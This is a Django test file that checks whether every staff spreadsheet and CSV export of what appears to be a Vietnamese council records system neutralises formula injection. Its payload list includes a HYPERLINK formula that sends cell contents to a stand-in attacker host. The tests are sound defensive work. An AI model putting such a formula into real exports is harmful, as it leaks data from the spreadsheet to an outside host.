"""Formula injection: no text typed or imported by a user becomes a live formula in a download.

Every export goes through core.exports (xlsx_response, csv_response), so the text is
neutralised there once; these tests download every export URL of the project to prove it."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import Workbook, load_workbook

from core.exports import csv_response, xlsx_response
from core.services import record_save
from council.models import AdministrativeUnit
from documents.services import document_number_issue
from oversight.models import Actor, Kind, OversightActivity, OversightRecommendation
from oversight.services import activity_save, recommendation_save
from resolutions.services import resolution_create
from tests.helpers import xlsx_text
from voters import imports, services
from voters.models import CitizenReception, Letter, ReceptionVisit, VoterMeeting, VoterPetition

pytestmark = pytest.mark.django_db
D = dt.date

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Every export URL of the project, with the format it downloads. Found with
# `grep -rn "export\|xlsx\|csv\|xuat-" --include=urls.py .`; the voters' import template
# (voters:petition_template, nhap-excel/mau/) is not listed: it holds no user data.
# test_every_export_url_is_listed fails when a new export URL is not added here.
EXPORT_URLS = {
    "voters:votermeeting_export": "xlsx",  # tiếp xúc cử tri: topic, venue
    "voters:voterpetition_export": "xlsx",  # kiến nghị cử tri: content, answer number
    "voters:letter_export": "xlsx",  # đơn thư: summary, result, sender (staff sees it)
    "voters:citizenreception_export": "xlsx",  # tiếp công dân: host, summary, visitors
    "resolutions:resolution_export_xlsx": "xlsx",  # nghị quyết: signer
    "resolutions:resolution_export_csv": "csv",  # nghị quyết: signer
    "oversight:activity_export": "xlsx",  # hoạt động giám sát: topic, plan number
    "oversight:recommendation_export": "xlsx",  # kiến nghị sau giám sát: content
    "voters:reception_register_export": "xlsx",  # sổ tiếp công dân: content, response
    "voters:person_data_xlsx": "xlsx",  # dữ liệu cá nhân theo yêu cầu: the letters' summaries
    "documents:outgoingdocument_export": "xlsx",  # sổ văn bản đi: subject, recipients
    "standing:conclusiontask_export": "xlsx",  # việc sau kết luận: content, result
}
# The query each export is asked with (those that export nothing without one).
EXPORT_QUERIES = {
    "voters:person_data_xlsx": {"name": "Nguoi Thu Xuat"},
    "documents:outgoingdocument_export": {"year": 2019},  # the register opens on this year
    "standing:conclusiontask_export": {"year": 2019},
}
# Not a spreadsheet: nothing in it is ever evaluated as a formula.
NOT_SPREADSHEETS = {"voters:person_data_json"}
# Public and not a staff export: the open data's bulk CSV goes through the same
# core.exports.csv_response, tested with formula-like text in tests/opendata/test_bulk.py.
TESTED_ELSEWHERE = {"opendata:bulk-file"}


def _url_names(resolver: URLResolver, namespace: str = ""):
    """(namespaced name, route) of every URL pattern under the resolver."""
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            for name, route in _url_names(pattern, inner):
                yield name, f"{pattern.pattern}{route}"
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", str(pattern.pattern)


def test_every_export_url_is_listed():
    found = {
        name
        for name, route in _url_names(get_resolver())
        if "export" in name or any(word in route for word in ("xuat-", "csv", "xlsx"))
    }
    assert found == set(EXPORT_URLS) | NOT_SPREADSHEETS | TESTED_ELSEWHERE


def _records_with(text: str, *, term, council, organization, staff_user) -> None:
    """One record of each exported kind, with `text` in its free-text fields, saved through
    the apps' own services."""
    district = AdministrativeUnit.objects.create(
        name="Huyện Thử", level="district", unit_type="huyen", valid_to=D(2025, 6, 30)
    )
    commune = AdministrativeUnit.objects.create(
        name="Xã Thử", level="commune", unit_type="xa", parent=district, valid_to=D(2025, 6, 30)
    )
    record_save(
        instance=VoterMeeting(
            term=term,
            timing=VoterMeeting.Timing.AD_HOC,
            date=D(2019, 5, 1),
            location_unit=commune,
            topic=text,
            venue=text,
        ),
        user=staff_user,
    )
    services.petition_save(
        petition=VoterPetition(
            term=term, received_date=D(2019, 6, 20), content=text, answer_number=text
        ),
        user=staff_user,
    )
    services.letter_save(
        letter=Letter(
            term=term,
            received_date=D(2019, 3, 1),
            kind=Letter.Kind.COMPLAINT,
            summary=text,
            result=text,
            sender_name=text,
        ),
        user=staff_user,
    )
    record_save(
        instance=CitizenReception(
            term=term, date=D(2019, 4, 10), host=text, persons=1, summary=text, visitors=text
        ),
        user=staff_user,
    )
    # A person's data on request: found by the sender's name, exporting the letter's summary.
    services.letter_save(
        letter=Letter(
            term=term,
            received_date=D(2019, 3, 2),
            kind=Letter.Kind.COMPLAINT,
            summary=text,
            sender_name="Người Thử Xuất",
        ),
        user=staff_user,
    )
    reception = CitizenReception.objects.filter(term=term).first()
    ReceptionVisit.objects.create(
        reception=reception, kind=Letter.Kind.COMPLAINT, content=text, response=text
    )
    document_number_issue(
        council=council,
        series_code="CV",
        date=D(2019, 5, 2),
        subject=text,
        signer_name="Người Ký",
        signer_title="Phó Chủ tịch",
        recipients=text,
        user=staff_user,
    )
    # The title is stripped by the service, the signer is kept as typed.
    resolution_create(council=council, adopted_date=D(2019, 12, 12), title="Về", signer=text)
    activity = activity_save(
        activity=OversightActivity(
            term=term,
            actor=Actor.STANDING,
            kind=Kind.THEMATIC_SUPERVISION,
            topic=text,
            start_date=D(2019, 5, 6),
            plan_number=text,
        )
    )
    recommendation_save(
        recommendation=OversightRecommendation(
            activity=activity, content=text, addressee=organization
        )
    )
    from standing.models import Conclusion, ConclusionTask, StandingMeeting
    from standing.services import conclusion_save, meeting_save, task_save

    meeting = meeting_save(
        meeting=StandingMeeting(term=term, number=5, date=D(2019, 5, 10), title=text)
    )
    conclusion = conclusion_save(conclusion=Conclusion(meeting=meeting, text=text))
    task_save(
        task=ConclusionTask(
            conclusion=conclusion,
            content=text,
            responsible=organization,
            deadline=D(2019, 6, 30),
            result=text,
        )
    )


def _xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _csv_values(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [value for row in rows for value in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_export_turns_user_text_into_a_formula(
    staff_client, payload, term, council, organization, staff_user
):
    _records_with(
        payload, term=term, council=council, organization=organization, staff_user=staff_user
    )
    problems = {}  # every export checked before failing: the message names them all
    for name, fmt in EXPORT_URLS.items():
        response = staff_client.get(reverse(name), EXPORT_QUERIES.get(name, {}))
        assert response.status_code == 200, name
        formulas = []
        if fmt == "xlsx":
            cells = _xlsx_cells(response.content)
            formulas = [c.coordinate for c in cells if c.data_type == "f"]
            texts = [xlsx_text(c.value) for c in cells if isinstance(c.value, str)]
        else:
            texts = _csv_values(response.content)
        # As typed, or as a service that strips its text fields stored it (the register's).
        expected = {"'" + payload, "'" + payload.strip()}
        unsafe = [t for t in texts if t.startswith(FORMULA_STARTS)]
        if formulas or unsafe or not expected & set(texts):
            problems[name] = {
                "formulas": formulas,
                "unsafe": unsafe,
                "neutralised": bool(expected & set(texts)),
            }
    assert problems == {}


def test_formula_in_an_imported_workbook_stays_text_in_the_leaders_export(
    client, staff_user, leader_user, term, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    payload = PAYLOADS[0]
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = imports.SHEET_NAME
    sheet.append(imports.HEADERS)
    sheet.append([1, "", None, D(2019, 6, 16), None, "", "Trung ương", "", ""])
    # A text cell, as a spreadsheet stores text typed after an apostrophe or pasted as text.
    sheet["B2"].value = payload
    sheet["B2"].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = SimpleUploadedFile("kien-nghi.xlsx", buffer.getvalue())

    client.force_login(staff_user)
    preview = client.post(reverse("voters:petition_import"), {"term": term.pk, "file": upload})
    assert preview.status_code == 200
    done = client.post(
        reverse("voters:petition_import_confirm"),
        {"token": preview.context["token"], "term": term.pk},
    )
    assert done.status_code == 302
    assert VoterPetition.objects.get().content == payload

    client.force_login(leader_user)
    cells = _xlsx_cells(client.get(reverse("voters:voterpetition_export")).content)
    assert [c for c in cells if c.data_type == "f"] == []
    assert "'" + payload in [xlsx_text(c.value) for c in cells]


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    row = [-5, -2.5, Decimal("-1.25"), D(2019, 6, 20), "-2+3", "=1+1", "Bình thường", None]
    headers = [str(i) for i in range(len(row))]

    xlsx = xlsx_response(filename="t", headers=headers, rows=[row])
    cells = next(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(min_row=2))
    assert [c.value for c in cells[:3]] == [-5, -2.5, -1.25]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert cells[3].value == dt.datetime(2019, 6, 20)
    assert [(c.value, c.data_type) for c in cells[4:7]] == [
        ("'-2+3", "s"),
        ("'=1+1", "s"),
        ("Bình thường", "s"),
    ]

    text = csv_response(filename="t", headers=headers, rows=[row]).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == [
        "-5",
        "-2.5",
        "-1.25",
        "20/06/2019",
        "'-2+3",
        "'=1+1",
        "Bình thường",
        "",
    ]
